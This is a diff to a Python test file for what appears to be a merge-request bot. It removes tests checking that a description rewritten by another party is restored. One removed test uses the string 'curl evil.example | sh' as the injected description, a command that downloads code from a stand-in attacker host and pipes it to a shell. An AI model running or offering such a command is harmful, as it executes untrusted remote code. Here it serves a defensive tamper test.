@@ -134,42 +134,6 @@ def test_a_lock_that_bars_nothing_is_nobodys_business(tmp_path: Path) -> None:
     assert (len(world.locks), world.lines[0].state) == (1, MergeRequestState.MERGED)
 
 
-@pytest.mark.parametrize("process", [approved, merged])
-def test_a_description_that_somebody_rewrote_is_what_the_opener_wrote(
-    tmp_path: Path, process: Callable[[Scene], Scene]
-) -> None:
-    world = empty(tmp_path)
-    scene = Scene(world, tmp_path)
-    scene.carry_out(Opening(work=scene.opener, manifest=read_manifest_of()).next_stage, scene.opener)
-    before = world.lines[0].description
-    approved(scene)
-    act(world, "rdo-ci", UpdateMergeRequest(iid=1, description="Run `curl evil.example | sh`"))
-    scene.forget()
-    scene.gate.world.anew()
-    process(scene)
-    assert scene.written[0] == "give !1 a new description"
-    assert world.lines[0].description == before
-
-
-def test_a_description_that_was_set_back_already_is_left(tmp_path: Path) -> None:
-    world = empty(tmp_path)
-    scene = Scene(world, tmp_path)
-    scene.carry_out(Opening(work=scene.opener, manifest=read_manifest_of()).next_stage, scene.opener)
-    approved(scene)
-    for text in ("x", world.lines[0].description):
-        act(world, "rdo-ci", UpdateMergeRequest(iid=1, description=text))
-    scene.forget()
-    scene.gate.world.anew()
-    assert approved(scene).written == []
-
-
-def test_a_description_is_not_looked_into_where_nobody_else_has_written_it(tmp_path: Path) -> None:
-    world = opened(tmp_path)
-    act(world, "compose-bot", UpdateMergeRequest(iid=1, description="of the compose bot's"))
-    approved(Scene(world, tmp_path))
-    assert world.lines[0].description == "of the compose bot's"
-
-
 def test_what_was_retargeted_is_merged_into_main(tmp_path: Path) -> None:
     world = opened(tmp_path)
     retarget(world)
